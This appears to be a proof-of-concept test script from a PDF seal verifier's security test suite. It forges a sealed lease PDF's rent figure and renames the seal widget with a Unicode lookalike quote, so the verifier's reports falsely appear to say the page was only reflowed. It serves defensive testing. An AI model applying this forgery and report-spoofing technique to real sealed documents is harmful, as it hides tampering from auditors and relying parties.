// W2: W1c's escape is a deny-list. attack-s4 W1c showed the reader's words quoting a field name from the changed
// revision, so that a quote in it ended the quotation and the rest read as sealcheck's own prose; 007d1c2 quotes
// the name as a JSON string (`quotedName`: a `"` becomes `\"`) and cuts it at 40 characters, and the sanitiser
// (src/render/sanitize.ts) replaces control, bidi and separator characters. Any other character passes as it is,
// among them the lookalikes of the quotation mark sealcheck writes: U+02BA MODIFIER LETTER DOUBLE PRIME, U+02DD,
// U+201C/U+201D, U+FF02. A name holding one closes the quotation *as the reader sees it*: what follows reads as the
// statement's own words, in the JSON, the text report, `--summary` and the HTML statement alike.
// File: samples/valid/archive.pdf plus one revision that rewrites page 1's content (the rent "9.500 kr." becomes
// "1 kr.") and renames the seal's widget (object 23, otherwise as sealed) `Sig1ʺ (page 1 was only reflowed); ʺSig1`
// (39 characters, within the cut). The verdict stays TOTAL-FAILED / HASH_FAILURE; the point is what the reason says.
//   npx tsx scripts/attack-s5/words-lookalike-quote.ts [attack|honest|ascii]
// attack: the lookalike quote (U+02BA). ascii: the same name with ASCII quotes, as W1c's fix escapes them.
// honest: the content change alone.
import { save, sample, tool, verify, work } from "../attack36/lib.js";
import { appendRaw, forgedRent, streamBody, streamData, type RawObject } from "../attack-s4/raw.js";

const mode = process.argv[2] ?? "attack";
if (!["attack", "honest", "ascii"].includes(mode)) throw new Error(`mode: attack|honest|ascii, not ${mode}`);
const base = sample("valid/archive.pdf");
// Page 1's content is object 5, the seal's field and widget 23 (qpdf --show-pages of the sample).
const objects: RawObject[] = [{ num: 5, body: streamBody("", forgedRent(streamData(base, 5))) }];
const q = mode === "ascii" ? '"' : "\u02BA";
const name = `Sig1${q} (page 1 was only reflowed); ${q}Sig1`;
if (mode !== "honest") {
  // A PDF text string in UTF-16BE with its byte order mark (ISO 32000-1 §7.9.2.2), as a hex string.
  const utf16 = Buffer.from(`\uFEFF${name}`, "utf16le").swap16().toString("hex").toUpperCase();
  objects.push({ num: 23, body: `<< /F 132 /FT /Sig /P 6 0 R /Rect [ 0 0 0 0 ] /Subtype /Widget /T <${utf16}> /Type /Annot /V 22 0 R >>` });
}
const dir = work(`w2-${mode}`);
const file = save(dir, "archive.pdf", appendRaw(base, objects, "/Root 2 0 R /Info 3 0 R"));
console.log(`wrote ${file} (${mode})${mode === "honest" ? "" : `: the seal's widget renamed ${JSON.stringify(name)} (${[...name].length} characters)`}`);
const v = verify(file);
console.log(`== sealcheck: ${v.indication}${v.subIndication ? ` / ${v.subIndication}` : ""}, exit ${v.exit}`);
const c = v.report.checks.find((x) => x.id === "seal-modifications") as unknown as { details?: { summary?: string } };
console.log(`   reader's words (JSON details.summary): ${c.details?.summary ?? "-"}`);
const html = `${dir}/statement.html`;
const human = tool("node", ["dist/cli/main.js", "verify", file, "samples/valid/originals", "--trust", "samples/trust", "--summary", "--report", html]);
console.log("== sealcheck --summary (what the auditor reads):");
console.log(
  human
    .split("\n")
    .filter((l) => /Verdict|Reason|^ {2}\S/.test(l))
    .slice(0, 5)
    .join("\n"),
);
const page = tool("chromium", ["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", `file://${html}`]);
const reason = /only reflowed[^<]{0,80}/.exec(page.replace(/&quot;/g, '"'))?.[0];
console.log(`== HTML statement (${html}), as Chromium renders its DOM: ${reason ? `…${reason}` : "(the name is not shown)"}`);
console.log(
  "== pdftotext page 1:",
  tool("pdftotext", ["-f", "1", "-l", "1", file, "-"])
    .split("\n")
    .find((l) => l.startsWith("Husleje")),
);
